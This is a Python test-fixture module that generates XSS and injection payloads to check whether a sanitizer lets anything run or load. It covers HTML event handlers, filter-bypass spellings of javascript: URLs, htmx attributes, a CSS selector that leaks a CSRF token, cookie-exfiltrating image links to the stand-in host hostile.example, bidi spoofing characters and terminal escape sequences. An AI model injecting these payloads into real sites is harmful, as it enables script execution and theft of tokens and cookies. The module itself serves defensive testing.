"""What a hostile agent, tool or person may write: texts of our own, by class of attack. Every one that could run tries to set `window.hit`, and every
one that could load asks for a host that must never be asked, so that a browser tells what got through."""

from __future__ import annotations

from itertools import product

HOST = "hostile.example"
RUN = "window.hit=1"


def _entities(text: str, form: str = "&#{};") -> str:
    return "".join(form.format(ord(letter)) for letter in text)


def _hex(text: str) -> str:
    return "".join(f"&#x{ord(letter):x}" for letter in text)


# --- HTML: elements that run, load, navigate, restyle, submit or embed -----------------------------------------------------

_EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onpointerenter", "onanimationstart", "onbegin", "oncut")
_HOLDERS = (
    "<img src=x {}>",
    "<svg {}>",
    "<body {}>",
    "<details open {}>x</details>",
    "<input autofocus {}>",
    "<video><source {}></video>",
    "<marquee {}>x</marquee>",
    "<iframe {}></iframe>",
    "<math {}>",
    "<custom-element {} tabindex=1>x</custom-element>",
    "<select {}><option>x</select>",
)
_QUOTES = ('="{}"', "='{}'", "={}", "=`{}`", "\t=\n'{}'")
_SPELLINGS = (str, str.upper, str.swapcase)

HTML = [holder.format(event + quote.format(RUN)) for holder, (event, quote) in product(_HOLDERS, zip(_EVENTS, _QUOTES * 2, strict=False))]
HTML += [spell(f"<script>{RUN}</script>") for spell in _SPELLINGS]
HTML += [
    f"<script src=https://{HOST}/a.js></script>",
    f"<script/src=//{HOST}/a.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script\x0b>",
    f"<<script>{RUN}//<</script>",
    f"</script><script>{RUN}</script>",
    f"</title></textarea></style></noscript><script>{RUN}</script>",
    f"<!--><script>{RUN}</script-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php <script>{RUN}</script> ?>",
    f'<svg><script>{RUN}</script></svg><svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}/>#x"/></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f'<form id=f action="javascript:{RUN}"><button form=f>x</button></form>',
    f"<form action=https://{HOST}/ method=post><input name=csrfmiddlewaretoken></form>",
    f'<button formaction="javascript:{RUN}">x</button>',
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    '<iframe src="javascript:parent.hit=1"></iframe>',
    f"<iframe src=https://{HOST}/></iframe><frameset><frame src=https://{HOST}/></frameset>",
    '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
    f"<object data=https://{HOST}/a.swf></object><embed src=https://{HOST}/a.swf><applet code=x>",
    f"<base href=https://{HOST}/>",
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    f"<link rel=stylesheet href=https://{HOST}/a.css><link rel=prefetch href=https://{HOST}/><link rel=dns-prefetch href=//{HOST}>",
    f"<link rel=import href=https://{HOST}/><link rel=manifest href=https://{HOST}/m.json>",
    f"<img src=https://{HOST}/pixel.png srcset='https://{HOST}/2.png 2x' loading=eager>",
    f"<picture><source srcset=https://{HOST}/a.webp><img></picture><video poster=https://{HOST}/p.png src=https://{HOST}/v.mp4 autoplay></video>",
    f"<audio src=https://{HOST}/a.mp3 autoplay></audio><track src=https://{HOST}/t.vtt><body background=https://{HOST}/b.png>",
    f"<table background=https://{HOST}/b.png><tr><td background=https://{HOST}/c.png>x</table>",
    f"<a href=x ping=https://{HOST}/ping>x</a><area href=javascript:{RUN}>",
    # htmx is on the page: its attributes are as good as a script's
    '<div hx-get="/admin/" hx-trigger="load" hx-target="body">x</div><div data-hx-post="/signout/" data-hx-trigger="load">x</div>',
    f'<div hx-on:click="{RUN}" hx-on::load="{RUN}">x</div><div hx-vals="js:{RUN}" hx-get="/" hx-trigger="load"></div>',
    '<p id="toast" class="toast" role="alert" style="position:fixed;inset:0">The site says: sign in again</p>',
    '<div id="main" name="keys" class="button is-primary" popover>x</div>',
    f'<template shadowrootmode=open><style>:host{{display:none}}</style><script>{RUN}</script></template>',
    '<input type=password name=password autocomplete=current-password><textarea name=q></textarea>',
    '<dialog open>Sign in<form method=dialog><button>x</button></form></dialog><slot name=x></slot>',
]  # fmt: skip

# --- CSS that tells what it sees, or covers the page ----------------------------------------------------------------------

CSS = [
    f"<style>input[name=csrfmiddlewaretoken][value^=a]{{background:url(https://{HOST}/a)}}</style>",
    f"<style>@import url(https://{HOST}/a.css);@font-face{{font-family:x;src:url(https://{HOST}/f)}}body{{font-family:x}}</style>",
    f'<p style="background:url(https://{HOST}/b)">x</p><p style="background-image:\\75rl(https://{HOST}/b)">x</p>',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">gone</div>',
    f'<p style="width:expression({RUN})">x</p><p style="behavior:url(#x)">x</p><xss style="-moz-binding:url(//{HOST}/x)">',
    f"<style>body{{display:none!important}}</style><style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
]  # fmt: skip

# --- addresses: in Markdown, in every spelling of a scheme ----------------------------------------------------------------

_SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"{_entities('javascript:')}{RUN}",
    f"{_entities('javascript:', '&#{:07d};')}{RUN}",
    f"{_hex('javascript:')};{RUN}",
    f"java&#x09;script:{RUN}",
    f"javascript\\:{RUN}",
    f"%6Aavascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"jav\u200bascript:{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oaXQ9MSIvPg==",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    "file:///etc/passwd",
    "blob:https://x/1",
    "filesystem:x",
    "about:blank",
    "ftp://files.example/x",
    "/signout/",
    "//" + HOST + "/x",
    "\\\\" + HOST + "\\x",
    "/\\" + HOST,
    "?read=0",
    "#toast",
    "..%2fadmin/",
]
_PLACES = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "[x][1]\n\n[1]: {}",
    "<{}>",
    '<a href="{}">x</a>',
    "[![x]({})]({})",
    "|a|\n|---|\n|[x]({})|",
    "- [ ] [x]({})",
)
LINKS = [place.replace("{}", scheme) for place, scheme in product(_PLACES, _SCHEMES)]

MARKDOWN = [
    f'[x](https://a.example "\\" onmouseover={RUN} x=\\"")',
    f"[x](https://a.example/\"onmouseover=\"{RUN})",
    f"[x](https://a.example/'><script>{RUN}</script>)",
    f'```"><script>{RUN}</script>\nx\n```',
    f"```html\n</pre><script>{RUN}</script>\n```",
    f"``` {{.x onclick={RUN}}}\nx\n```",
    f"~~~<img src=x onerror={RUN}>\nx\n~~~",
    f"`</code><script>{RUN}</script>`",
    f"|<img src=x onerror={RUN}>|\n|:--\"onclick={RUN}:|\n|x|",
    f"# <script>{RUN}</script>\n\n> <script>{RUN}</script>\n\n1. <script>{RUN}</script>",
    f"![<img src=x onerror={RUN}>](https://{HOST}/p.png)",
    f"![](https://{HOST}/p.png)![](//{HOST}/p.png)![x](http://{HOST}/{{x}}.png?c=document.cookie)",
    f"<https://a.example/\"onmouseover=\"{RUN}>",
    f"https://a.example/<script>{RUN}</script> www.a.example a@b.example",
    "[x]: <> (unclosed\n[x]\n[^1]\n\n[^1]: note",
    "\\<script\\>x\\</script\\> &lt;script&gt; &#60;script&#62; &amp;lt;script&amp;gt;",
    "999999999999999999999. x\n-1. y",
]  # fmt: skip

# --- characters that hide, reorder, ring or move the cursor ---------------------------------------------------------------

HIDDEN = [
    "\u202e\u2066 transfer \u2069\u202c",
    'if access != "user\u202e \u2066// only admins\u2069 \u2066":',
    "pay\u200bpal \u2060 a\ufeffb \u00ad so\u00adft \u061c \u180e x\u2063y",
    "\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "A\ufe01\ufe02\U000e0101\U000e0102",
    "z\u0335\u0336\u0337\u0338" * 40,
    "\u2028\u2029\x85 new lines",
    "\x00\x01\x02\x7f\x9b31m \x9d0;t\x07",
    "&#x202e; &#8238; &zwnj;x&lrm;y&rlm; &#0; &#x1b;[31m",
    "\ud83d lone \udc00",
    "\uffff\ufffe\ufdd0",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m \x1b[1;32mbold green\x1b[m \x1b[38;5;196mx\x1b[48;2;1;2;3my",
    "\x1b]0;title\x07\x1b]8;;https://" + HOST + "/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H\x1b[3J\x1b[?1049h\x1bc\x1b[6n\x1bP+q\x1b\\",
    "\a\a\a\b\b\b over \r under\r\n",
    "\x1b[" + "1;" * 5000 + "m" + "x",
    "\x1b[31m" * 2000,
    f"\x1b[31m<script>{RUN}</script>\x1b[0m",
]

ALL = [*HTML, *CSS, *LINKS, *MARKDOWN, *HIDDEN, *TERMINAL]

# --- texts whose cost grows faster than they do: a piece that is repeated -------------------------------------------------

REPEATED = (
    *("[", "![](", "[x](", "[x][", "[](<", "](", "[^", "<", "</", "<!--", "<a ", "&", "&#", "\\"),
    *(">", "> > ", "> - ", "- ", "- - ", "1. ", "- a\n  ", "- a\n\n  - ", "* * ", "+ \t", "    ", "  " * 40 + "- x\n"),
    *("*", "**", "*a **b ", "_", "__a", "***a** ", "~~", "~~a~~~", "`", "`a``", "``` \n", "~~~\n", "```py\n"),
    *("|", "|a", "|a|\n|-|\n", "|-", "http://", "https://a.b/(", "www.", "a@", "mailto:", "[a]: b\n", "[a]:\n", "#", "# ", "= \n=\n", "-\n"),
    *("\u202e", "\u200b", "\x1b[31m", "\x1b[", "\x00", "\ud83d", "&#x0;", "\r", "\t"),
)  # fmt: skip
